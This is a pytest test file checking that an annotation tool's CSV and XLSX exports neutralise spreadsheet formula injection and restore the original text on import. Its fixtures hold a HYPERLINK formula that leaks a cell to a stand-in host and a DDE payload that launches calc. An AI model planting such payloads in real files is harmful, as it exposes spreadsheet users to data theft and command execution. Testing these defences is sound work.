"""Exports never carry live formulas (issue 14, item 1): text beginning with = + - @ (or tab/CR)
is written as text in XLSX and CSV, and `annotate import` restores the original text exactly."""

from __future__ import annotations

import csv
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from annotate_support import write_generation_run
from cvalues.annotate import Accounts, TaskStore, export_task, import_labels
from cvalues.annotate.cell_safety import escape_csv_text, unescape_csv_text
from cvalues.annotate.run_sources import read_generation_run
from cvalues.store import open_store

HOSTILE_COMMENT = '=HYPERLINK("http://x/?leak="&L2,"点此查看详情")'
HOSTILE_PROMPTS = ["=1+1", "+SUM(A1:A9)", "-2+3", "@SUM(A1)", "'=already quoted", "普通问题"]
HOSTILE_REPLY = "=cmd|' /C calc'!A0"


def _task(tmp_path: Path) -> tuple[Accounts, TaskStore]:
    store = open_store(f"sqlite:///{tmp_path / 'a.db'}")
    accounts, tasks = Accounts(store.engine), TaskStore(store.engine)
    user = accounts.add_user("amy", "annotator", "amy-password-1")
    run = write_generation_run(tmp_path / "gen", HOSTILE_PROMPTS, [HOSTILE_REPLY] * len(HOSTILE_PROMPTS))
    tasks.create_task("hostile", "safety", "annotator", 1, 0, read_generation_run(run), [user])
    for position in range(len(HOSTILE_PROMPTS)):
        tasks.save_label("hostile", user, position, {"verdict": "safe", "scenario": None}, HOSTILE_COMMENT)
    return accounts, tasks


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@x", "\tx", "\rx", "'x", "''=x", "a=b", "", "普通"])
def test_csv_escape_is_reversible(text: str) -> None:
    escaped = escape_csv_text(text)
    assert unescape_csv_text(escaped) == text
    assert not escaped.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_xlsx_export_has_no_formula_cells(tmp_path: Path) -> None:
    accounts, tasks = _task(tmp_path)
    out = tmp_path / "labels.xlsx"
    export_task(tasks, accounts, "hostile", "xlsx", out)
    with zipfile.ZipFile(out) as book:
        sheet_xml = book.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = load_workbook(out).active
    comments = [cell.value for cell in sheet["J"][1:]]
    assert comments == [HOSTILE_COMMENT] * len(HOSTILE_PROMPTS)
    assert all(cell.data_type == "s" for cell in sheet["J"][1:])


def test_csv_export_quotes_formula_text(tmp_path: Path) -> None:
    accounts, tasks = _task(tmp_path)
    out = tmp_path / "labels.csv"
    export_task(tasks, accounts, "hostile", "csv", out)
    rows = list(csv.DictReader(out.read_text(encoding="utf-8-sig").splitlines()))
    assert {row["comment"] for row in rows} == {"'" + HOSTILE_COMMENT}
    assert {row["response"] for row in rows} == {"'" + HOSTILE_REPLY}
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_hostile_text_round_trips_exactly(tmp_path: Path, fmt: str) -> None:
    accounts, tasks = _task(tmp_path)
    original = tmp_path / "original.jsonl"
    export_task(tasks, accounts, "hostile", "jsonl", original)
    exported = tmp_path / f"labels.{fmt}"
    export_task(tasks, accounts, "hostile", fmt, exported)
    copy = open_store(f"sqlite:///{tmp_path / 'b.db'}")
    accounts_b, tasks_b = Accounts(copy.engine), TaskStore(copy.engine)
    import_labels(tasks_b, accounts_b, exported)
    again = tmp_path / "again.jsonl"
    export_task(tasks_b, accounts_b, "hostile", "jsonl", again)
    assert again.read_text(encoding="utf-8") == original.read_text(encoding="utf-8")
    prompts = sorted(item.payload["prompt"] for item in tasks_b.items("hostile"))
    assert prompts == sorted(HOSTILE_PROMPTS)
